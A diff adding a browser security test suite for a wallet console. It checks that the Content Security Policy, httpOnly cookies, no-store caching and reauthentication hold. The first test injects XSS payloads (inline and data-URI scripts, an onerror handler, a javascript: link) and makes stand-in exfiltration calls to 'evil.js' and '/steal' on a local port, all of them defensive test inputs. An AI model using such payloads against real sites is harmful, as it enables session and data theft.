@@ -1,0 +1,98 @@
+import assert from "node:assert/strict";
+import { after, describe, test } from "node:test";
+import { testPepper } from "../server.ts";
+import { noBrowser, openBrowser, openPage } from "./browser.ts";
+import { startConsoleWorld } from "./console-world.ts";
+import { seedDemo } from "./seed-demo.ts";
+
+// Somebody got a piece of HTML into a page, or has the cookie of a person who is signed in.
+
+describe("policy", { skip: noBrowser }, async () => {
+  const world = await startConsoleWorld();
+  const demo = await seedDemo(world.db.owner, testPepper);
+  const browser = await openBrowser();
+  after(async () => {
+    await browser.close();
+    await world.close();
+  });
+
+  test("a script that was injected does not run, in whatever way it comes", async () => {
+    const { page, context } = await openPage(browser);
+    await world.signIn(page, demo.ownerEmail);
+    const blocked: string[] = [];
+    page.on(
+      "console",
+      (message) => void (/Content Security Policy/.test(message.text()) && blocked.push(message.text())),
+    );
+    await page.evaluate(`(() => {
+      const add = (make) => { const element = make(); document.body.append(element); };
+      add(() => Object.assign(document.createElement("script"), { textContent: "window.ran = 'inline'" }));
+      add(() => Object.assign(document.createElement("script"), { src: "data:text/javascript,window.ran='data'" }));
+      add(() => Object.assign(document.createElement("script"), { src: "http://127.0.0.1:9/evil.js" }));
+      const box = document.createElement("div");
+      box.innerHTML = "<img src=x onerror=\\"window.ran = 'handler'\\"><a href=\\"javascript:window.ran='link'\\">x</a>";
+      document.body.append(box);
+      box.querySelector("a").click();
+    })()`);
+    await page.waitForTimeout(500);
+    assert.equal(await page.evaluate("window.ran"), undefined);
+    assert.ok(blocked.length >= 4, `the policy was asked ${blocked.length} times`);
+    // What a page could still do is tell somebody else: it cannot.
+    const told = await page.evaluate<string>(
+      `fetch("http://127.0.0.1:9/steal").then(() => "sent", (error) => String(error))`,
+    );
+    assert.match(told, /Failed to fetch/);
+    await context.close();
+  });
+
+  test("the session is out of a script's reach, and nothing that was read stays in the browser's cache", async () => {
+    const { page, context } = await openPage(browser);
+    const kept: string[] = [];
+    page.on("response", (response) => {
+      const { "cache-control": cache = "" } = response.headers();
+      if (response.url().includes("/console/api/") && cache !== "no-store") kept.push(`${response.url()}: ${cache}`);
+    });
+    await world.signIn(page, demo.ownerEmail);
+    for (const path of ["", "/keys", "/ledger", "/top-up", "/alerts", "/team"]) {
+      await page.goto(`${world.server.url}/console/w/${demo.walletId}${path}`);
+      await page.waitForLoadState("networkidle");
+    }
+    assert.deepEqual(kept, []);
+    assert.equal(await page.evaluate("document.cookie"), "");
+    const cookies = await context.cookies();
+    assert.deepEqual(
+      cookies.map(({ httpOnly, sameSite }) => ({ httpOnly, sameSite })),
+      [{ httpOnly: true, sameSite: "Lax" }],
+    );
+    const stored = await page.evaluate<string>("JSON.stringify({ ...localStorage, ...sessionStorage })");
+    assert.doesNotMatch(stored, /pb_(?:live|test|mgmt)_/);
+    await context.close();
+  });
+
+  test("a stolen session whose sign-in is old makes no key", async () => {
+    const { page, context } = await openPage(browser);
+    await world.signIn(page, demo.ownerEmail);
+    await world.db.owner.query("update pb.sessions set authenticated_at = authenticated_at - interval '1 hour'");
+    const before = await countKeys();
+    const answer = await page.request.post(`${world.server.url}/console/api/wallets/${demo.walletId}/keys`, {
+      headers: { "x-pennyblack-csrf": "1", origin: world.server.url },
+      data: { mode: "live", name: "mine now" },
+    });
+    assert.equal(answer.status(), 403);
+    assert.equal(((await answer.json()) as { code: string }).code, "reauthentication_required");
+    assert.equal(await countKeys(), before);
+
+    await page.goto(`${world.server.url}/console/w/${demo.walletId}/keys`);
+    await page.getByRole("button", { name: "Create key" }).click();
+    await page.getByLabel("Name").fill("mine now");
+    await page.getByRole("button", { name: "Create key" }).last().click();
+    await page.getByText("Confirm that it is you").waitFor();
+    assert.equal(await countKeys(), before);
+    await context.close();
+  });
+
+  async function countKeys(): Promise<bigint> {
+    const { rows } = await world.db.owner.query<{ count: bigint }>("select count(*) from pb.keys");
+    return rows[0]?.count ?? 0n;
+  }
+});
